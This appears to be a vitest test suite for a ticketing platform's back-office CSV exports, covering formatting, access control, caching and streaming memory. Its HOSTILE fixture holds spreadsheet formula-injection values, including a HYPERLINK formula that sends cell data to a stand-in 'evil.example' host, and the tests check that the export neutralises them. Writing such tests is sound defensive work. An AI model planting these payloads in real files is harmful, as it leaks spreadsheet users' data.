import { request as httpRequest } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { parse } from 'csv-parse/sync';
import pg from 'pg';
import { eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { MonthlySalesRecord } from '@fourfour/shared/affiliates';
import { orderReference } from '@fourfour/shared/orders';
import { doorCodeOf } from '@fourfour/shared/scan';
import { tickets } from '../../db/schema/index.ts';
import { createEvent, createUser, type TestUser } from '../../../test/factories.ts';
import { createTestApp, type TestApp } from '../../../test/helpers.ts';
import { makeAffiliate } from '../tickets/tickets.test-kit.ts';
import { insertIssuedOrder } from '../tickets/index.ts';
import { keptExports } from './csv-export.ts';

const BOM = '\uFEFF';

/** A name a spreadsheet would run as a formula, and the same ones as the CSV must hand them over: text. */
const HOSTILE = [
  ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1'],
  ['-2', '@x'],
  ['\tTabbed', 'Plain'],
] as const;

describe('CSV exports of the back office', () => {
  let t: TestApp;
  let admin: TestUser;
  let master: TestUser;
  let fan: TestUser;

  beforeAll(async () => {
    t = await createTestApp({ jobs: { work: false }, env: { RATE_LIMIT: 'off' } });
    [admin, master, fan] = await Promise.all([
      createUser(t.app, { role: 'ADMIN' }),
      createUser(t.app, { role: 'MASTER' }),
      createUser(t.app),
    ]);
  });
  afterAll(() => t?.close());

  const download = (user: TestUser | null, url: string) =>
    t.app.inject({ method: 'GET', url, headers: user ? user.headers : {} });

  /** The CSV read back with the same project's parser, one object per row by header. */
  const rowsOf = (body: string) =>
    parse(body, { bom: true, columns: true, skip_empty_lines: true }) as Record<string, string>[];

  async function ticketsFor(
    eventId: number,
    buyer: { id: number },
    names: readonly (readonly [string, string])[],
    at?: Date,
  ) {
    return insertIssuedOrder(t.app.db, {
      userId: buyer.id,
      eventId,
      at,
      tickets: names.map(([firstName, lastName]) => ({
        ticketType: 'STANDARD' as const,
        firstName,
        lastName,
        dateOfBirth: '1990-01-01',
        pricePence: 2250,
      })),
    });
  }

  it('exports an event’s orders one row per ticket: BOM, header, accented names intact, formula-looking names as text', async () => {
    const event = await createEvent(t.app, { title: 'Nuit Électrique: Señor Coconut!' });
    const [accented] = await ticketsFor(event.id, fan, [['Zoë', 'Ørsted-Nuñez']]);
    await ticketsFor(event.id, fan, HOSTILE);

    const res = await download(admin, `/api/admin/events/${event.id}/orders.csv`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="nuit-electrique-senor-coconut-orders.csv"');
    expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(res.body.startsWith(`${BOM}Order reference,Order status,Buyer email,Buyer username,Ticket type,`)).toBe(
      true,
    );

    const rows = rowsOf(res.body);
    expect(rows).toHaveLength(4);
    const zoe = rows.find((r) => r['Ticket id'] === accented!.id)!;
    expect(zoe).toMatchObject({
      'Attendee first name': 'Zoë',
      'Attendee last name': 'Ørsted-Nuñez',
      'Buyer email': fan.email,
      'Buyer username': fan.username,
      'Ticket type': 'STANDARD',
      'Ticket status': 'VALID',
      'Price (GBP)': '22.50',
      Refunded: 'no',
    });
    expect(zoe['Order reference']).toBe(orderReference(zoe['Order id']!));
    expect(zoe['Paid at']).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
    // Each hostile cell comes back as text: the same characters behind a leading apostrophe.
    const names = rows.map((r) => [r['Attendee first name'], r['Attendee last name']]);
    expect(names).toContainEqual([`'${HOSTILE[0][0]}`, `'${HOSTILE[0][1]}`]);
    expect(names).toContainEqual([`'${HOSTILE[1][0]}`, `'${HOSTILE[1][1]}`]);
    expect(names).toContainEqual([`'${HOSTILE[2][0]}`, 'Plain']);
    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('marks a refunded ticket, and lists the attendees by folded name with admission and door code', async () => {
    const event = await createEvent(t.app, { title: '' });
    const issued = await ticketsFor(event.id, fan, [
      ['Fela', 'Kuti'],
      ['émile', 'Durand'],
      ['Ana', 'Éclair'],
      ['Bob', 'adams'],
    ]);
    const admittedAt = new Date('2026-07-04T22:41:07Z');
    await t.app.db.update(tickets).set({ status: 'USED', usedAt: admittedAt }).where(eq(tickets.id, issued[0]!.id));
    await t.app.db.update(tickets).set({ status: 'VOID', voidedAt: new Date() }).where(eq(tickets.id, issued[3]!.id));
    await t.app.db.execute(sql`
      INSERT INTO order_refunds (order_id, request_key, ticket_ids, amount_pence, reason, status, completed_at)
      SELECT order_id, 'test:' || id, jsonb_build_array(id::text), 2250, 'Bought two by mistake', 'SUCCEEDED', now()
      FROM tickets WHERE id = ${issued[3]!.id}`);

    const orders = rowsOf((await download(admin, `/api/admin/events/${event.id}/orders.csv`)).body);
    expect(orders.find((r) => r['Ticket id'] === issued[3]!.id)).toMatchObject({
      'Ticket status': 'VOID',
      Refunded: 'yes',
    });
    expect(orders.find((r) => r['Ticket id'] === issued[3]!.id)!['Refunded at']).toMatch(/^\d{4}-\d{2}-\d{2} /);
    expect(orders.filter((r) => r.Refunded === 'yes')).toHaveLength(1);

    const res = await download(admin, `/api/admin/events/${event.id}/attendees.csv`);
    // An event without a usable title still gets a file name.
    expect(res.headers['content-disposition']).toBe(`attachment; filename="event-${event.id}-attendees.csv"`);
    const attendees = rowsOf(res.body);
    expect(attendees.map((r) => r['Last name'])).toEqual(['adams', 'Durand', 'Éclair', 'Kuti']);
    const kuti = attendees[3]!;
    expect(kuti).toMatchObject({
      'First name': 'Fela',
      Status: 'USED',
      'Door code': doorCodeOf(issued[0]!.id),
      'Order reference': orderReference(orders[0]!['Order id']!),
    });
    expect(kuti['Admitted at']).toBe(
      new Intl.DateTimeFormat('sv-SE', {
        timeZone: t.app.config.timezone,
        dateStyle: 'short',
        timeStyle: 'medium',
      }).format(admittedAt),
    );
  });

  it('exports the door scans in the order they happened, with the device’s name and the scanner', async () => {
    const event = await createEvent(t.app);
    const [ticket] = await ticketsFor(event.id, fan, [['Nia', 'Adeyemi']]);
    const scanner = await createUser(t.app, { role: 'EVENT_WORKER' });
    await t.app.db.execute(sql`INSERT INTO scan_devices (id, name) VALUES ('web-front01', '=Front door')`);
    await t.app.db.execute(sql`
      INSERT INTO ticket_scans (ticket_id, event_id, scanner_id, result, device, created_at) VALUES
        (${ticket!.id}, ${event.id}, ${scanner.id}, 'ALREADY_USED', 'web-front01', now()),
        (${ticket!.id}, ${event.id}, ${scanner.id}, 'OK', 'web-front01', now() - interval '1 minute'),
        (NULL, ${event.id}, ${scanner.id}, 'INVALID', 'web-back0002', now() + interval '1 minute')`);
    const rows = rowsOf((await download(admin, `/api/admin/events/${event.id}/scans.csv`)).body);
    expect(rows.map((r) => r.Result)).toEqual(['OK', 'ALREADY_USED', 'INVALID']);
    expect(rows[0]).toMatchObject({
      'Door code': doorCodeOf(ticket!.id),
      Attendee: 'Nia Adeyemi',
      Device: "'=Front door",
      Scanner: scanner.username,
    });
    expect(rows[2]).toMatchObject({ 'Door code': '', Attendee: '', Device: 'web-back0002' });
  });

  it('exports the affiliates’ payouts of a month with the same figures as their sales statistics, MASTER only', async () => {
    const [small, big] = await Promise.all([
      createUser(t.app, { role: 'AFFILIATE' }),
      createUser(t.app, { role: 'AFFILIATE' }),
    ]);
    await makeAffiliate(t.app, small.id, `SMALL${small.id}`);
    await makeAffiliate(t.app, big.id, `BIG${big.id}`);
    const event = await createEvent(t.app);
    const inMarch = new Date('2026-03-10T12:00:00Z');
    const sell = (affiliateId: number, n: number, at: Date) =>
      insertIssuedOrder(t.app.db, {
        userId: fan.id,
        eventId: event.id,
        affiliateId,
        at,
        tickets: Array.from({ length: n }, (_, i) => ({
          ticketType: i % 3 === 0 ? ('VIP' as const) : ('STANDARD' as const),
          firstName: 'A',
          lastName: 'B',
          dateOfBirth: '1990-01-01',
          pricePence: i % 3 === 0 ? 5000 : 2000,
        })),
      });
    await sell(small.id, 3, inMarch);
    await sell(big.id, 15, inMarch);
    await sell(big.id, 2, new Date('2026-04-02T12:00:00Z'));

    expect((await download(admin, '/api/master/affiliates/payouts.csv?month=2026-03')).statusCode).toBe(403);
    expect((await download(null, '/api/master/affiliates/payouts.csv?month=2026-03')).statusCode).toBe(401);
    for (const bad of ['2026-13', '2026-3', 'march', '']) {
      const res = await download(master, `/api/master/affiliates/payouts.csv?month=${bad}`);
      expect(res.statusCode, bad).toBe(400);
      expect(res.json().errors[0].field).toBe('month');
    }

    const res = await download(master, '/api/master/affiliates/payouts.csv?month=2026-03');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-disposition']).toBe('attachment; filename="affiliate-payouts-2026-03.csv"');
    const rows = rowsOf(res.body);
    for (const affiliate of [small, big]) {
      const history = (await download(admin, `/api/master/affiliates/${affiliate.id}/sales-history`)).json<
        MonthlySalesRecord[]
      >();
      const march = history.find((m) => m.month === '2026-03')!;
      const row = rows.find((r) => r['Affiliate id'] === String(affiliate.id));
      expect(row).toEqual({
        Month: '2026-03',
        'Affiliate id': String(affiliate.id),
        Username: affiliate.username,
        Email: affiliate.email,
        'Tickets sold': String(march.totalTickets),
        'Commission (GBP)': march.commissionEarned.toFixed(2),
        'Bonus (GBP)': march.bonusEarned.toFixed(2),
        'Total (GBP)': (march.commissionEarned + march.bonusEarned).toFixed(2),
      });
    }
    expect(rows.find((r) => r['Affiliate id'] === String(big.id))!['Bonus (GBP)']).not.toBe('0.00');
  });

  it('is for ADMIN and MASTER, and answers 404 for an unknown event before sending anything', async () => {
    const event = await createEvent(t.app);
    for (const kind of ['orders', 'attendees', 'scans']) {
      const url = `/api/admin/events/${event.id}/${kind}.csv`;
      expect((await download(null, url)).statusCode).toBe(401);
      expect((await download(fan, url)).statusCode).toBe(403);
      expect((await download(master, url)).statusCode).toBe(200);
      const unknown = await download(admin, `/api/admin/events/987654321/${kind}.csv`);
      expect(unknown.statusCode).toBe(404);
      expect(unknown.headers['content-type']).toContain('application/json');
    }
  });

  it('downloads asked for at the same time each get the whole file, and one asked for afterwards sees what changed since', async () => {
    const event = await createEvent(t.app, { title: 'Shared Night' });
    for (let i = 0; i < 30; i += 1) await ticketsFor(event.id, fan, [[`Guest${i}`, `Shared${i}`]]);
    const url = `/api/admin/events/${event.id}/attendees.csv`;
    const together = await Promise.all(Array.from({ length: 6 }, () => download(admin, url)));
    for (const res of together) {
      expect(res.statusCode).toBe(200);
      expect(res.body).toBe(together[0]!.body);
      expect(rowsOf(res.body)).toHaveLength(30);
    }
    await ticketsFor(event.id, fan, [['Late', 'Arrival']]);
    const after = rowsOf((await download(admin, url)).body);
    expect(after).toHaveLength(31);
    expect(after.map((r) => r['Last name'])).toContain('Arrival');
  });

  it('answers an unchanged export from the copy kept, and every change to what it reads from the data', async () => {
    const event = await createEvent(t.app, { title: 'Kept Night' });
    const buyer = await createUser(t.app);
    const seller = await createUser(t.app, { role: 'AFFILIATE' });
    await makeAffiliate(t.app, seller.id, `KEPT${seller.id}`);
    const [first, second] = await insertIssuedOrder(t.app.db, {
      userId: buyer.id,
      eventId: event.id,
      affiliateId: seller.id,
      tickets: [
        { ticketType: 'STANDARD', firstName: 'Ada', lastName: 'Kept', dateOfBirth: '1990-01-01', pricePence: 2250 },
        { ticketType: 'VIP', firstName: 'Bo', lastName: 'Kept', dateOfBirth: '1990-01-01', pricePence: 5000 },
      ],
    });
    const [{ orderId } = { orderId: '' }] = await t.app.db
      .select({ orderId: tickets.orderId })
      .from(tickets)
      .where(eq(tickets.id, second!.id));
    const scanner = await createUser(t.app, { role: 'EVENT_WORKER' });
    await t.app.db.execute(sql`INSERT INTO scan_devices (id, name) VALUES ('web-kept0001', 'Side door')`);
    await t.app.db.execute(sql`
      INSERT INTO ticket_scans (ticket_id, event_id, scanner_id, result, device)
      VALUES (${first!.id}, ${event.id}, ${scanner.id}, 'OK', 'web-kept0001')`);

    const csv = async (kind: 'orders' | 'attendees' | 'scans') => {
      const res = await download(admin, `/api/admin/events/${event.id}/${kind}.csv`);
      expect(res.statusCode).toBe(200);
      return res.body;
    };
    /** How many downloads of each export were answered from a kept copy (fourfour_export_downloads_total). */
    const answeredFromCopy = async () => {
      const { values } = await t.app.metrics.exports.get();
      return Object.fromEntries(
        (['orders', 'attendees', 'scans'] as const).map((kind) => [
          kind,
          values.find((v) => v.labels.export === kind && v.labels.answer === 'kept')?.value ?? 0,
        ]),
      );
    };
    const keptBefore = keptExports(t.app);
    const copiesBefore = await answeredFromCopy();
    const made = { orders: await csv('orders'), attendees: await csv('attendees'), scans: await csv('scans') };
    expect(keptExports(t.app)).toBe(keptBefore + 3);
    expect(await answeredFromCopy()).toEqual(copiesBefore);
    // Unchanged: the same file again, from the copy (still kept after being read).
    for (const kind of ['orders', 'attendees', 'scans'] as const) expect(await csv(kind)).toBe(made[kind]);
    expect(keptExports(t.app)).toBe(keptBefore + 3);
    expect(await answeredFromCopy()).toEqual({
      orders: copiesBefore.orders! + 1,
      attendees: copiesBefore.attendees! + 1,
      scans: copiesBefore.scans! + 1,
    });

    // A write to the buyer's account that no export shows (a sign-in's last_active_at) keeps the copy.
    await t.app.db.execute(sql`UPDATE users SET last_active_at = now() WHERE id = ${buyer.id}`);
    expect(await csv('orders')).toBe(made.orders);
    expect((await answeredFromCopy()).orders).toBe(copiesBefore.orders! + 2);

    const ordersRow = async () => rowsOf(await csv('orders')).find((r) => r['Ticket id'] === second!.id)!;
    // Each table an export reads, changed in turn, shows in the next download.
    await t.app.db.execute(sql`UPDATE users SET email = ${`renamed-${buyer.id}@example.com`} WHERE id = ${buyer.id}`);
    expect((await ordersRow())['Buyer email']).toBe(`renamed-${buyer.id}@example.com`);
    await t.app.db.execute(sql`UPDATE users SET affiliate_code = ${`MOVED${seller.id}`} WHERE id = ${seller.id}`);
    expect((await ordersRow())['Affiliate code']).toBe(`MOVED${seller.id}`);
    await t.app.db.update(tickets).set({ firstName: 'Beau' }).where(eq(tickets.id, second!.id));
    expect((await ordersRow())['Attendee first name']).toBe('Beau');
    await t.app.db.update(tickets).set({ status: 'VOID', voidedAt: new Date() }).where(eq(tickets.id, second!.id));
    expect(await ordersRow()).toMatchObject({ 'Ticket status': 'VOID', Refunded: 'no' });
    await t.app.db.execute(sql`
      INSERT INTO order_refunds (order_id, request_key, ticket_ids, amount_pence, reason, status, completed_at)
      VALUES (${orderId}, ${`kept:${second!.id}`}, ${JSON.stringify([second!.id])}::jsonb, 5000, 'Changed plans', 'SUCCEEDED', now())`);
    expect((await ordersRow()).Refunded).toBe('yes');
    await t.app.db.execute(sql`UPDATE orders SET status = 'REFUNDED', refunded_at = now() WHERE id = ${orderId}`);
    expect((await ordersRow())['Order status']).toBe('REFUNDED');

    await t.app.db.update(tickets).set({ status: 'USED', usedAt: new Date() }).where(eq(tickets.id, first!.id));
    expect(rowsOf(await csv('attendees')).find((r) => r['First name'] === 'Ada')!.Status).toBe('USED');

    await t.app.db.execute(sql`UPDATE scan_devices SET name = 'Main door' WHERE id = 'web-kept0001'`);
    expect(rowsOf(await csv('scans'))[0]!.Device).toBe('Main door');
    await t.app.db.execute(sql`UPDATE users SET username = ${`door${scanner.id}`} WHERE id = ${scanner.id}`);
    expect(rowsOf(await csv('scans'))[0]!.Scanner).toBe(`door${scanner.id}`);
    await t.app.db.execute(sql`
      INSERT INTO ticket_scans (ticket_id, event_id, scanner_id, result, device)
      VALUES (${first!.id}, ${event.id}, ${scanner.id}, 'ALREADY_USED', 'web-kept0001')`);
    expect(rowsOf(await csv('scans')).map((r) => r.Result)).toEqual(['OK', 'ALREADY_USED']);
  });

  it.runIf(process.env.DATABASE_URL)(
    'never answers from a copy made while a change was in flight, once it is committed (PostgreSQL)',
    async () => {
      const event = await createEvent(t.app, { title: 'In Flight' });
      const [ticket] = await ticketsFor(event.id, fan, [['Ivy', 'Flight']]);
      const url = `/api/admin/events/${event.id}/attendees.csv`;
      const client = await t.database.pool!.connect();
      try {
        // An admission in flight while the export is made: not visible to it, committed just after.
        await client.query('BEGIN');
        await client.query(`UPDATE tickets SET status = 'USED', used_at = now() WHERE id = $1`, [ticket!.id]);
        expect(rowsOf((await download(admin, url)).body)[0]!.Status).toBe('VALID');
        await client.query('COMMIT');
        expect(rowsOf((await download(admin, url)).body)[0]!.Status).toBe('USED');
      } finally {
        client.release();
      }
    },
  );

  it.runIf(process.env.DATABASE_URL)(
    'keeps its copy while a transaction runs in another database of the server (PostgreSQL)',
    async () => {
      const kept = async () =>
        (await t.app.metrics.exports.get()).values.find(
          (v) => v.labels.export === 'attendees' && v.labels.answer === 'kept',
        )?.value ?? 0;
      // A long transaction holding an id, in the server's database DATABASE_URL names (each test file
      // has its own): a backup or a report elsewhere; on CI, the other test files. It cannot write here.
      const elsewhere = new pg.Client({ connectionString: process.env.DATABASE_URL });
      await elsewhere.connect();
      try {
        await elsewhere.query('BEGIN');
        await elsewhere.query('SELECT pg_current_xact_id()');
        // Everything the export reads is written after it began.
        const event = await createEvent(t.app, { title: 'Elsewhere' });
        await ticketsFor(event.id, fan, [['Eli', 'Where']]);
        const url = `/api/admin/events/${event.id}/attendees.csv`;
        const before = await kept();
        const made = (await download(admin, url)).body;
        expect((await download(admin, url)).body).toBe(made);
        expect(await kept()).toBe(before + 1);
      } finally {
        await elsewhere.query('ROLLBACK');
        await elsewhere.end();
      }
    },
  );

  it('streams a 30,000-ticket export with flat memory: the server holds a batch, not the file', async () => {
    const event = await createEvent(t.app, { title: 'Big Night' });
    const N = 15_000;
    await t.app.db.execute(sql`
      WITH r AS (
        INSERT INTO reservations (user_id, event_id, status, standard_qty, vip_qty, items, total_pence, expires_at)
        SELECT ${fan.id}, ${event.id}, 'FULFILLED', 2, 0, '[]'::jsonb, 4500, now() FROM generate_series(1, ${N})
        RETURNING id),
      o AS (
        INSERT INTO orders (reservation_id, user_id, event_id, provider, amount_pence, status, paid_at, created_at)
        SELECT id, ${fan.id}, ${event.id}, 'local', 4500, 'PAID', now(), now() - random() * interval '30 days' FROM r
        RETURNING id)
      INSERT INTO tickets (order_id, event_id, user_id, ticket_type, first_name, last_name, date_of_birth, price_paid_pence)
      SELECT o.id, ${event.id}, ${fan.id}, 'STANDARD', 'Zoë ' || g, 'Ørsted-Nuñez ' || md5(o.id::text), '1990-01-01', 2250
      FROM o, generate_series(1, 2) g`);

    const exportStarted = Date.now();
    // A real HTTP download (inject would buffer the whole answer in this process), read a little,
    // then paused: with backpressure a streaming server stops at a batch; a buffered one holds it all.
    setFlagsFromString('--expose-gc');
    const gc = runInNewContext('gc') as () => void;
    await t.app.listen({ port: 0, host: '127.0.0.1' });
    const { port } = t.app.server.address() as AddressInfo;
    gc();
    const before = process.memoryUsage().heapUsed;

    let bytes = 0;
    let lines = 0;
    let growth = 0;
    await new Promise<void>((resolve, reject) => {
      const req = httpRequest(
        { port, host: '127.0.0.1', path: `/api/admin/events/${event.id}/orders.csv`, headers: admin.headers },
        (res) => {
          expect(res.statusCode).toBe(200);
          let paused = false;
          res.on('data', (chunk: Buffer) => {
            bytes += chunk.length;
            for (const b of chunk) if (b === 0x0a) lines += 1;
            if (!paused && bytes > 256 * 1024) {
              paused = true;
              res.pause();
              setTimeout(() => {
                gc();
                growth = process.memoryUsage().heapUsed - before;
                res.resume();
              }, 1500);
            }
          });
          res.on('end', resolve);
          res.on('error', reject);
        },
      );
      req.on('error', reject);
      req.end();
    });
    // Header plus one line per ticket; the file is several megabytes.
    expect(lines).toBe(2 * N + 1);
    expect(bytes).toBeGreaterThan(6 * 1024 * 1024);
    // Holding the file's text adds its size, its rows several times that; a batch is a fraction of it.
    expect(growth).toBeLessThan(bytes / 2);
    // The attendee list crosses batch boundaries too: every ticket once, in name order.
    const attendees = rowsOf((await download(admin, `/api/admin/events/${event.id}/attendees.csv`)).body);
    expect(attendees).toHaveLength(2 * N);
    // Each name is one ticket's (the last name holds its order's md5, the first name 1 or 2).
    const names = attendees.map((r) => `${r['Last name']} ${r['First name']}`);
    expect(new Set(names).size).toBe(2 * N);
    expect(names.every((name, i) => i === 0 || names[i - 1]! < name)).toBe(true);
    console.info(
      `orders.csv, ${2 * N} rows, ${(bytes / 1048576).toFixed(1)} MB: heap growth while paused ${(growth / 1048576).toFixed(1)} MB, ${Date.now() - exportStarted} ms`,
    );
  }, 240_000);
});
